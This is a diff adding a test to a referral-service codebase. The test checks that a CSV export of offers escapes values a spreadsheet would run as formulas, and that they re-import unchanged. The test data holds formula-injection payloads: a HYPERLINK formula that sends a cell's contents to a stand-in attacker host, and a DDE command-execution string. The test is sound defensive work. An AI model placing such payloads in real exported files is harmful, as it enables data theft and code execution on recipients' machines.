@@ -433,6 +433,39 @@ describeEachDatabase('referrals', ({ db }) => {
     expect(after).toEqual(before);
   });
 
+  it('writes a cell that a spreadsheet would run as a formula as text, and reads it back as typed', async () => {
+    const token = await coordinatorToken();
+    const offer: ManagedOffer = {
+      id: 'formel-angebot',
+      name: '=HYPERLINK("http://evil.example/?x="&A1,"Info")',
+      organisation: '+cmd|/C calc!A0',
+      type: 'elterncafe',
+      agePhases: ['baby'],
+      fields: ['education'],
+      districts: [],
+      languages: ['de'],
+      cost: '@SUM(1+1)',
+      address: '-2+3',
+      phone: '',
+      hours: '',
+      whatToBring: '',
+      partnerOrganisationId: null,
+    };
+    expect((await call('POST', '/api/office/offers', token, offer)).statusCode).toBe(201);
+    const before = managedOfferListSchema.parse((await call('GET', '/api/office/offers', token)).json()).offers;
+    const exported = offerCsvExportSchema.parse((await call('GET', '/api/office/offers/export', token)).json());
+    const row = exported.csv.split('\n').find((line) => line.startsWith('formel-angebot;')) ?? '';
+    const cells = row.split(';').map((cell) => cell.replace(/^"/, ''));
+    // Every typed value that starts like a formula leaves as text (a leading apostrophe), none as a formula.
+    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+    expect(cells.filter((cell) => cell.startsWith("'"))).toHaveLength(4);
+    const imported = await call('POST', '/api/office/offers/import', token, { csv: exported.csv });
+    expect(imported.statusCode, imported.body).toBe(200);
+    const after = managedOfferListSchema.parse((await call('GET', '/api/office/offers', token)).json()).offers;
+    expect(after).toEqual(before);
+    expect((await call('DELETE', '/api/office/offers/formel-angebot', token)).statusCode).toBe(204);
+  });
+
   it('refuses a malformed CSV with line-level errors and imports nothing of it', async () => {
     const token = await coordinatorToken();
     const snapshot = async () =>
